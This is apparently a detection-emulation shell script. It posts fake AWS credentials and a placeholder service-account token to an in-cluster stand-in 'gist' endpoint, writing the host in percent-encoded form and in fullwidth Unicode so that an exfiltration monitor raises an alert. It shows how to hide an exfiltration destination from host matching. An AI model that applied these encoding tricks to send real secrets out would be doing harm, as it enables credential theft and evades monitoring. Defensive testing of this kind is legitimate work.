#!/bin/sh
# Emulates scenario curl-encoded-host-gist (examples/scenarios/curl-encoded-host-gist.yaml):
# Credentials posted to gists through a percent-encoded host (`api%2egithub%2ecom`) and one written with ideographic full stops (`api。github。com`).
#
# This script plays ONE of the scenario's two containers, chosen by EMU_ROLE (one alert per container: the
# Job in k8s/ runs both, one after the other):
#   etl  reads fake AWS credentials and posts them to the forge-api stand-in with its host percent-encoded
#        (`http://forge-api%2eexfilwatch-emulation%2esvc%2ecluster%2elocal:8080/gists`); curl decodes it.
#   web  reads the pod's real service-account token (that read is what exfilwatch flags) but posts a FAKE
#        placeholder instead of it, to the stand-in's host written with fullwidth letters and ideographic
#        full stops (`ｆｏｒｇｅ-ａｐｉ。exfilwatch-emulation。svc。cluster。local`). curl maps that to
#        ASCII (UTS #46) only when it is built with IDN (`curl -V` lists it; curlimages/curl has it): a curl
#        without IDN cannot resolve the name, so the script then logs why and skips this form (no alert).
# Safe version: AWS's documented example keys, a placeholder for the token, a fake gist token, and the
# in-namespace forge-api stand-in (emu_check_target vets EMU_FORGE_URL; both written forms are its host).
#
# Image: curlimages/curl:8.11.1
# Expected alert: sensitive-read-then-push, severity high
# Expected alert: sensitive-read-then-push, severity high
set -eu
# shellcheck source=lib.sh
. "$(dirname "$0")/lib.sh"

# fullwidth TEXT: TEXT's ASCII lower-case letters and digits as their fullwidth forms (`api` → `ａｐｉ`):
# U+FF41… is UTF-8 EF BD 81… (the letter's code + 0x20), U+FF10… is EF BC 90… (the digit's code + 0x60).
fullwidth() {
  fw_in=$1
  while [ -n "$fw_in" ]; do
    fw_c=${fw_in%"${fw_in#?}"}
    fw_in=${fw_in#?}
    case "$fw_c" in
      [abcdefghijklmnopqrstuvwxyz]) printf '\357\275%b' "\\0$(printf '%o' $(($(printf '%d' "'$fw_c") + 32)))" ;;
      [0123456789]) printf '\357\274%b' "\\0$(printf '%o' $(($(printf '%d' "'$fw_c") + 96)))" ;;
      *) printf '%s' "$fw_c" ;;
    esac
  done
}

: "${EMU_ROLE:?set EMU_ROLE to etl or web}"
emu_need curl base64 sed tr
emu_check_target "$EMU_FORGE_URL"
rest=${EMU_FORGE_URL#*://}
hostport=${rest%%/*}
base_path=${rest#"$hostport"}
host=$(printf '%s' "${hostport%%:*}" | tr 'ABCDEFGHIJKLMNOPQRSTUVWXYZ' 'abcdefghijklmnopqrstuvwxyz')
port=${hostport#"${hostport%%:*}"}
work="$EMU_WORKDIR/curl-encoded-host-gist-$EMU_ROLE"
rm -rf "$work"
case "$EMU_ROLE" in
  etl)
    url="${EMU_FORGE_URL%%://*}://$(printf '%s' "$host" | sed 's/\./%2e/g')$port${base_path%/}/gists"
    HOME="$work/home"
    emu_fake_secrets "$HOME"
    emu_post_fake_aws_gist "$work" "$url"
    emu_expect sensitive-read-then-push high
    ;;
  web)
    emu_read_sa_token
    first=${host%%.*}
    url="${EMU_FORGE_URL%%://*}://$(fullwidth "$first")$(printf '%s' "${host#"$first"}" | sed 's/\./。/g')$port${base_path%/}/gists"
    if ! curl -V | grep -q '^Features:.* IDN'; then
      emu_log "this curl has no IDN support: it cannot resolve $url in the cluster; skipping the Unicode form"
      emu_log "done. expected alert: none (the Unicode form needs a curl built with IDN, e.g. curlimages/curl)"
      exit 0
    fi
    mkdir -p "$work"
    printf '{"files":{"t":{"content":"FAKE-SERVICE-ACCOUNT-TOKEN-EXAMPLE"}}}' >"$work/g2.json"
    emu_log "posting a placeholder token to $url"
    emu_retry 12 curl -fsS -o /dev/null -H "Authorization: Bearer ghp_FAKEEXAMPLETOKEN000000000000000000" \
      --data-binary "@$work/g2.json" "$url"
    emu_expect sensitive-read-then-push high
    ;;
  *) emu_die "EMU_ROLE must be etl or web (got $EMU_ROLE)" ;;
esac
rm -rf "$work"
